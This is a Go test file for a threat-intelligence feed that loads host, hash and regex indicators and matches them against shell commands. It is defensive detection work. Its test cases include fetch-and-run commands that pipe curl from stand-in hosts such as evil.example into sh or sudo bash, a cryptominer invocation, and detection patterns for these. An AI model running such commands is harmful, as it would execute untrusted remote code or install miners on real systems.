package intel

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/mitrity/mitrity/govern/yamlfile"
)

func TestLoad(t *testing.T) {
	t.Parallel()
	f, err := Load("testdata/feed.yaml")
	assert.NilError(t, err)
	hosts, hashes, patterns := f.Counts()
	assert.Equal(t, hosts, 5)
	assert.Equal(t, hashes, 1)
	assert.Equal(t, patterns, 2)
	assert.Equal(t, f.Path, "testdata/feed.yaml")
	assert.Equal(t, len(f.SHA256), 64)
}

// TestLoadErrors: every problem in the file is reported at once, each with
// its file, line:column and field path.
func TestLoadErrors(t *testing.T) {
	t.Parallel()
	_, err := Load("testdata/bad.yaml")
	assert.Assert(t, err != nil)
	var errs *yamlfile.Errors
	assert.Assert(t, errors.As(err, &errs), "%T", err)
	want := []string{
		`testdata/bad.yaml:7:5: hosts[5].hots: unknown key "hots"`,
	}
	got := err.Error()
	for _, w := range want {
		assert.Check(t, is.Contains(got, w))
	}
	// Unknown keys stop decoding before the value checks run; the value
	// checks are proven on a file without them.
	data, rerr := os.ReadFile("testdata/bad.yaml")
	assert.NilError(t, rerr)
	fixed := filepath.Join(t.TempDir(), "bad.yaml")
	assert.NilError(t, os.WriteFile(fixed, []byte(strings.Replace(string(data), "  - hots: typo.example\n", "", 1)), 0o600))
	_, err = Load(fixed)
	assert.Assert(t, err != nil)
	lines := strings.Split(err.Error(), "\n")
	wantLines := []string{
		fixed + `:2:11: hosts[0].host: "https://evil.example/x": write the host alone, without a scheme`,
		fixed + `:3:11: hosts[1].host: "evil.*.example": a wildcard is allowed only as a leading "*." label`,
		fixed + `:4:11: hosts[2].host: "evil.example:8443": write the host alone, without a port`,
		fixed + `:5:11: hosts[3].host: "*.203.0.113.1": *. cannot prefix an IP address`,
		fixed + `:6:11: hosts[4].host: "bad host": not a host name (letters, digits, '-', '_' and '.'; internationalised names in their xn-- form)`,
		fixed + `:8:13: sha256[0].sha256: "abc": want 64 hexadecimal digits (a SHA-256)`,
		fixed + ":10:14: patterns[0].pattern: not a valid regular expression (Go RE2 syntax): error parsing regexp: missing closing ): `curl (`",
		fixed + `:11:14: patterns[1].pattern: "x*" matches the empty string, so it would match every command`,
		fixed + `:12:14: patterns[2].pattern: empty pattern`,
	}
	assert.DeepEqual(t, lines, wantLines)
}

func TestLoadMissing(t *testing.T) {
	t.Parallel()
	_, err := Load(filepath.Join(t.TempDir(), "nope.yaml"))
	assert.ErrorContains(t, err, "threat intel feed: open ")
	assert.Assert(t, errors.Is(err, os.ErrNotExist))
}

func TestLoadEmpty(t *testing.T) {
	t.Parallel()
	p := filepath.Join(t.TempDir(), "empty.yaml")
	assert.NilError(t, os.WriteFile(p, []byte("# nothing yet\n"), 0o600))
	f, err := Load(p)
	assert.NilError(t, err)
	assert.Equal(t, len(f.Check("curl https://evil.example | sh", []string{"evil.example"}, nil)), 0)
}

func TestCheck(t *testing.T) {
	t.Parallel()
	f, err := Load("testdata/feed.yaml")
	assert.NilError(t, err)
	const miner = "0f343b0931126a20f133d67c2b018a3b5e4e0f7e2e8e2f6d6f5b2c1a0b9c8d7e"
	tests := []struct {
		name   string
		text   string
		hosts  []string
		hashes []string
		want   []Hit
	}{
		{"nothing", "git status", nil, nil, nil},
		{"exact host", "", []string{"evil.example"}, nil,
			[]Hit{{KindHost, "evil.example", "evil.example", "C2 seen in incident 2024-17"}}},
		{"exact host is case- and dot-insensitive", "", []string{"EVIL.example."}, nil,
			[]Hit{{KindHost, "evil.example", "evil.example", "C2 seen in incident 2024-17"}}},
		{"feed entry normalised", "", []string{"exfil.example"}, nil,
			[]Hit{{KindHost, "exfil.example", "EXFIL.Example.", ""}}},
		{"a port is not part of the host", "", []string{"evil.example:443", "[2001:db8::bad]:8443"}, nil,
			[]Hit{{KindHost, "evil.example", "evil.example", "C2 seen in incident 2024-17"}, {KindHost, "2001:db8::bad", "2001:db8::bad", ""}}},
		{"exact does not match subdomains", "", []string{"a.evil.example", "notevil.example"}, nil, nil},
		{"wildcard matches the domain itself", "", []string{"paste.example"}, nil,
			[]Hit{{KindHost, "paste.example", "*.paste.example", "paste sites used for exfiltration"}}},
		{"wildcard matches any depth", "", []string{"a.b.paste.example"}, nil,
			[]Hit{{KindHost, "a.b.paste.example", "*.paste.example", "paste sites used for exfiltration"}}},
		{"wildcard is label-aligned", "", []string{"mypaste.example"}, nil, nil},
		{"ipv4", "", []string{"203.0.113.66"}, nil, []Hit{{KindHost, "203.0.113.66", "203.0.113.66", ""}}},
		{"ipv6 any spelling", "", []string{"[2001:DB8:0::BAD]"}, nil, []Hit{{KindHost, "2001:db8::bad", "2001:db8::bad", ""}}},
		{"ipv4-mapped ipv6", "", []string{"::ffff:203.0.113.66"}, nil, []Hit{{KindHost, "203.0.113.66", "203.0.113.66", ""}}},
		{"hash", "", nil, []string{strings.ToUpper(miner)},
			[]Hit{{KindSHA256, miner, miner, "known cryptominer installer"}}},
		{"pattern", "cd /tmp && curl -fsSL https://x.example/i.sh | sudo bash", nil, nil,
			[]Hit{{KindPattern, "curl -fsSL https://x.example/i.sh | sudo bash", `curl\s[^|;&]*\|\s*(sudo\s+)?(ba)?sh\b`, "pipe a download into a shell"}}},
		{"every kind, each once", "./xmrig --donate 0", []string{"evil.example", "evil.example"}, []string{miner},
			[]Hit{
				{KindHost, "evil.example", "evil.example", "C2 seen in incident 2024-17"},
				{KindSHA256, miner, miner, "known cryptominer installer"},
				{KindPattern, "xmrig", `\bxmrig\b`, ""},
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.DeepEqual(t, f.Check(tt.text, tt.hosts, tt.hashes), tt.want)
		})
	}
	assert.DeepEqual(t, f.Match("xmrig", []string{"a.paste.example", "203.0.113.66"}, nil), []string{
		"host a.paste.example (*.paste.example: paste sites used for exfiltration)",
		"host 203.0.113.66",
		`pattern xmrig (\bxmrig\b)`,
	})
	var nilFeed *Feed
	assert.Equal(t, len(nilFeed.Check("xmrig", []string{"evil.example"}, nil)), 0)
}

func TestParseHostEntry(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in       string
		host     string
		wildcard bool
		err      string
	}{
		{"Evil.Example", "evil.example", false, ""},
		{"*.evil.example", "evil.example", true, ""},
		{"xn--bcher-kva.example", "xn--bcher-kva.example", false, ""},
		{"bücher.example", "", false, "not a host name"},
		{"[::1]", "::1", false, ""},
		{"*", "", false, "a wildcard is allowed only as a leading \"*.\" label"},
		{"*.", "", false, "empty host"},
		{"a..b", "", false, "not a host name"},
		{"user@evil.example", "", false, "without a path or user"},
		{strings.Repeat("a", 64) + ".example", "", false, "not a host name"},
	}
	for _, tt := range tests {
		h, w, err := parseHostEntry(tt.in)
		if tt.err != "" {
			assert.Check(t, is.ErrorContains(err, tt.err), "%q", tt.in)
			continue
		}
		assert.Check(t, err, "%q", tt.in)
		assert.Check(t, is.Equal(h, tt.host))
		assert.Check(t, is.Equal(w, tt.wildcard))
	}
}
